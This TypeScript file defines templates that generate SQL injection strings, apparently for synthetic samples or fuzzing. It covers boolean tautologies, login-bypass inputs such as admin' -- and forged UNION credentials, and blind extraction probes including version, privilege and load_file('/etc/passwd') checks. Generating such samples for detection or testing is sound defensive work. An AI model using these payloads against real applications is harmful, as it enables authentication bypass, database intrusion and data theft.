import { digits, family, integer, maybe, mostly, oneOf, repeat, same, text, words } from '../template.ts';
import { inventedWord, lowerWord } from '../vocabulary/shared.ts';
import {
  alias,
  baseValue,
  bigNumber,
  characterCodes,
  column,
  comment,
  falsehood,
  hexString,
  injected,
  quoteless,
  readOut,
  serverFact,
  shortText,
  sql,
  table,
  tautology
} from '../vocabulary/sql.ts';

const conjunction = mostly(
  ['or', 6],
  ['and', 5],
  ['||', 1],
  ['&&', 1],
  ['xor', 0.4],
  ['or not', 0.4],
  ['and not', 0.3],
  ['having', 0.3],
  ['where', 0.3],
  ['rlike', 0.1]
);
const quote = mostly(["'", 5], ['"', 2], ["')", 1], ['")', 0.5], ["'))", 0.4], ['`', 0.2]);
const account = mostly(
  ['admin', 5],
  [words('administrator root user guest test sa superuser manager webmaster'), 2],
  [inventedWord, 2],
  [text`${inventedWord}@${inventedWord}.com`, 1],
  ['', 2]
);
const comparison = mostly(
  ['>', 3],
  ['<', 1],
  ['=', 3],
  ['!=', 0.5],
  ['<>', 0.3],
  ['>=', 0.4],
  [' like ', 0.2],
  [' between 1 and ', 0.2]
);
const position = integer(1, 40);
const slice = oneOf(
  text`substring(${readOut},${position},1)`,
  text`substr(${readOut},${position},1)`,
  text`mid(${readOut},${position},1)`,
  text`left(${readOut},${position})`,
  text`right(${readOut},${position})`,
  text`substring(${readOut} from ${position} for 1)`
);

export const booleanTemplates = family('sql-injection/boolean', {
  'any-context': sql(injected(text`${conjunction} ${tautology}`)),
  'and-true': sql(injected(text`and ${tautology}`)),
  'and-false': sql(injected(text`and ${falsehood}`)),
  'or-true': sql(injected(text`or ${tautology}`)),
  'or-false': sql(injected(text`or ${falsehood}`)),
  'numeric-bare': sql(
    text`${integer(0, 9999)}${maybe(')', 0.3)} ${words('or and')} ${same(bigNumber, (n) => `${n}=${n}`)}${maybe(comment)}`
  ),
  'string-open': sql(
    text`${maybe(lowerWord)}${same(words(`' "`), (q) => text`${q} ${words('or and')} ${same(shortText, (s) => `${q}${s}${q}=${q}${s}`)}`)}`
  ),
  'string-no-space': sql(
    text`${maybe(lowerWord)}${same(words(`' "`), (q) => text`${q}${words('or and || &&')}${same(shortText, (s) => `${q}${s}${q}=${q}${s}`)}${maybe(text`${q}${comment}`)}`)}`
  ),
  'empty-strings': sql(
    text`${maybe(lowerWord)}${oneOf("' or ''='", '" or ""="', "') or (''='", '") or (""="', "' or '' like '", "' or ''<>'x", "' and ''='", "'||''||'", "'='", '"="', "'-'", "' '", "'&'", "'^'", "'*'", "' or 1 -- '", "'or''='")}${maybe(comment, 0.15)}`
  ),
  parenthesised: sql(
    text`${maybe(lowerWord)}${quote}${repeat(')', 0, 3)} or ${repeat('(', 0, 3)}${same(shortText, (s) => `'${s}'='${s}`)}${maybe(comment, 0.4)}`
  ),
  'sequence-of-conditions': sql(injected(text`${repeat(text`${words('and or')} ${tautology}`, 2, 4, ' ')}`)),
  arithmetic: sql(
    text`${integer(1, 99)}${oneOf('-', '+', '*', '/', '%', '^', '&', '|', '<<')}${oneOf(text`(${oneOf('select ', '')}${integer(0, 9)}${maybe(text` from ${oneOf('dual', table)}`)})`, text`if(${tautology},1,0)`, text`(case when ${tautology} then 1 else 0 end)`)}${maybe(comment, 0.3)}`
  ),
  'string-concatenation': sql(
    text`${lowerWord}${oneOf(text`'||'${lowerWord}'||'`, text`'+'${lowerWord}'+'`, text`' '${lowerWord}`, text`'||(select ${serverFact})||'`, text`'+(select ${readOut})+'`, text`'||${serverFact}||'`, text`'+${serverFact}+'`, text`"+(select ${readOut})+"`)}${maybe(comment, 0.2)}`
  ),
  'case-when': sql(
    injected(
      text`${conjunction} ${integer(1, 9)}=(case when (${oneOf(tautology, falsehood)}) then ${integer(1, 9)} else ${oneOf(integer(1, 9), '(select 1 union select 2)', '1/0', 'null')} end)`
    )
  ),
  'case-as-value': sql(
    text`${maybe(text`${bigNumber},`)}(case when ${text`(${bigNumber}=${bigNumber})`} then ${bigNumber} else ${bigNumber}*(select ${bigNumber} from ${oneOf('information_schema.character_sets', 'dual', 'pg_class', 'master..sysdatabases')}) end)`
  ),
  'select-case': sql(
    text`${maybe(baseValue)}(select (case when (${bigNumber}=${bigNumber}) then ${oneOf(bigNumber, text`'${lowerWord}'`)} else (select ${bigNumber} union select ${bigNumber}) end))${maybe(comment)}`
  ),
  'if-function': sql(
    injected(
      text`${conjunction} ${oneOf('if', 'iif')}(${oneOf(tautology, falsehood)},${integer(0, 9)},${integer(0, 9)})`
    )
  ),
  'make-set-or-elt': sql(
    injected(text`${conjunction} ${oneOf('make_set', 'elt')}(${bigNumber}=${bigNumber},${bigNumber})`)
  ),
  'rlike-case': sql(
    injected(
      text`rlike (select (case when (${bigNumber}=${bigNumber}) then ${oneOf(bigNumber, hexString, "''")} else ${oneOf('0x28', "'('", '0x5b')} end))`
    )
  ),
  'ctx-drithsx': sql(
    injected(
      text`and (select (case when (${bigNumber}=${bigNumber}) then null else ${oneOf(text`ctxsys.drithsx.sn(1,${bigNumber})`, text`cast('${alias}' as numeric)`, text`1/0`)} end)${maybe(' from dual')}) is null`
    )
  ),
  'in-subquery': sql(
    injected(
      text`${conjunction} ${oneOf(bigNumber, text`'${shortText}'`, column)} ${maybe('not ')}in (select ${oneOf(column, bigNumber)} from ${table})`
    )
  ),
  'exists-subquery': sql(
    injected(
      text`${conjunction} ${maybe('not ')}exists(select ${oneOf('*', '1', column)} from ${table} where ${column} ${oneOf('like', '=')} '${shortText}%')`
    )
  ),
  'count-subquery': sql(
    injected(
      text`${conjunction} (select count(${oneOf('*', column)}) from ${oneOf(table, 'information_schema.tables', 'all_users', 'sysobjects', 'sqlite_master')})${comparison}${integer(0, 99)}`
    )
  ),
  'mysql-no-space': sql(
    text`${maybe(integer(1, 9))}${oneOf("'", '"', '')}${oneOf('||', '&&', '|', '&')}${oneOf('1', tautology, text`(${tautology})`)}${comment}`
  ),
  'assignment-of-string': sql(
    text`${quote}${oneOf('=', ' = ', '<>', ' like ', '>', '!=', ' regexp ', '^', '-', '*', '/', '&', '|', '%', '+', ' div ', ' mod ', '>>', '<=>')}${oneOf("'", '0', "''", '1', '"')}${maybe(comment)}`
  )
});

export const loginTemplates = family('sql-injection/login', {
  'account-comment': text`${account}'${maybe(' ', 0.3)}${comment}`,
  'account-double-quote-comment': text`${account}"${maybe(' ', 0.3)}${comment}`,
  'account-parentheses': text`${account}${oneOf("')", '")', "'))", ')')}${maybe(' ')}${oneOf('--', '#', '-- -', '/*', '--+')}`,
  'account-or-true': sql(text`${account}${quote} or ${tautology}${comment}`),
  'account-or-open': sql(text`${account}' or '${same(integer(0, 9), (n) => `${n}'='${n}`)}`),
  'account-limit': sql(
    text`${account}' or ${tautology} ${oneOf(text`limit ${integer(0, 3)},1`, 'limit 1', text`limit 1 offset ${integer(1, 9)}`, 'order by 1', 'group by 1', 'fetch first 1 rows only')}${comment}`
  ),
  'account-stacked-hash': sql(
    text`${account}' and 1=0 union all select '${account}', '${digits(8)}${lowerWord}${digits(8)}'${comment}`
  ),
  'account-md5': sql(text`${account}' and password=${words('md5 sha1 password')}('${shortText}') or '1'='1`),
  'or-true-like': sql(
    text`${quote} or ${column} like ${oneOf("'%", "'%admin%", "'a%", text`'%${lowerWord}%'`, "'_")}${maybe(comment)}`
  ),
  'or-is-not-null': sql(
    text`${maybe(lowerWord)}${quote} or ${column} is ${maybe('not ')}null${maybe(text`; ${comment}`)}${maybe(comment)}`
  ),
  'or-and-account': sql(
    text`${lowerWord}' or ${column}='${account}'${oneOf(comment, text` and '${integer(1, 9)}'='${integer(1, 9)}`, text` or 'x'='x`)}`
  ),
  'bypass-in-password': sql(
    text`${oneOf('anything', 'x', lowerWord, digits(3))}' or '${same(shortText, (s) => `${s}'='${s}`)}${maybe(text`' ${comment}`)}`
  ),
  'backslash-escape': sql(text`${account}\\${oneOf("'", '')} or ${tautology}${comment}`)
});

export const blindTemplates = family('sql-injection/blind', {
  ascii: sql(
    injected(text`${conjunction} ${words('ascii ord unicode hex')}(${slice})${comparison}${integer(32, 127)}`)
  ),
  'ascii-lower': sql(injected(text`and ascii(lower(${slice}))${comparison}${integer(97, 122)}`)),
  length: sql(
    injected(
      text`${conjunction} ${words('length len char_length octet_length bit_length')}(${readOut})${comparison}${integer(1, 40)}`
    )
  ),
  'substring-letter': sql(
    injected(text`${conjunction} ${slice}=${oneOf(text`'${shortText}'`, hexString, text`char(${integer(48, 122)})`)}`)
  ),
  'like-prefix': sql(
    injected(
      text`${conjunction} ${readOut} like ${oneOf(text`'${shortText}%'`, text`binary '${shortText}%'`, text`0x${repeat(words('61 62 63 64 65 25'), 1, 6)}`)}`
    )
  ),
  'regexp-prefix': sql(
    injected(
      text`${conjunction} ${readOut} ${words('regexp rlike ~ similar')} ${oneOf("'^[a-f]'", text`'^${shortText}'`, text`'^[${shortText}-z]'`, 'binary 0x5e61')}`
    )
  ),
  bits: sql(
    injected(
      text`and ${oneOf(text`ascii(${slice})`, text`ord(${slice})`)}${oneOf('&', '>>', '<<', '|', '^')}${integer(1, 128)}${comparison}${integer(0, 1)}`
    )
  ),
  instr: sql(
    injected(
      text`${conjunction} ${words('instr locate position strcmp charindex patindex find_in_set')}(${oneOf(readOut, text`'${shortText}'`)},${oneOf(text`'${shortText}'`, readOut)})${comparison}${integer(0, 3)}`
    )
  ),
  'version-digit': sql(
    injected(
      text`${conjunction} ${oneOf('substring', 'mid', 'left', 'substr')}(${oneOf('@@version', 'version()')},1${maybe(',1')})${comparison}${integer(3, 9)}`
    )
  ),
  'user-is': sql(
    injected(
      text`${conjunction} ${oneOf('user', 'current_user', 'system_user', 'user_name()', 'user()', 'database()', 'db_name()', "is_srvrolemember('sysadmin')", "is_member('db_owner')", "has_dbaccess('master')")}${comparison}${oneOf("'dbo'", "'sa'", "'root'", '1', text`'${lowerWord}'`, quoteless)}`
    )
  ),
  'column-exists': sql(
    injected(
      text`and (select ${column} from ${table} limit 0,1)${comparison}${oneOf('1', 'null', text`'${shortText}'`)}`
    )
  ),
  'not-in-char-sum': sql(injected(text`and ${characterCodes('chr', '||')}=${characterCodes('chr', '||')}`)),
  'load-file': sql(
    injected(
      text`and ${words('length ascii')}(load_file(${oneOf("'/etc/passwd'", hexString, text`char(${repeat(integer(46, 122), 5, 12, ',')})`)}))${comparison}${integer(0, 99)}`
    )
  ),
  'json-functions': sql(
    injected(
      text`${conjunction} ${oneOf(text`json_extract('{"${shortText}":${integer(1, 9)}}','$.${shortText}')=${integer(1, 9)}`, text`'{"a":2,"b":${integer(1, 9)}}'::jsonb <@ '{"a":1}'::jsonb`, text`json_length('{}') <= ${bigNumber}`, text`json_valid('{"${shortText}":1}')`, text`json_depth('{}') <> ${bigNumber}`, text`'{"${shortText}":"x"}'::jsonb ? '${shortText}'`, text`isjson('[]')=1`, text`data @> '{"a":1}'`)}`
    )
  )
});
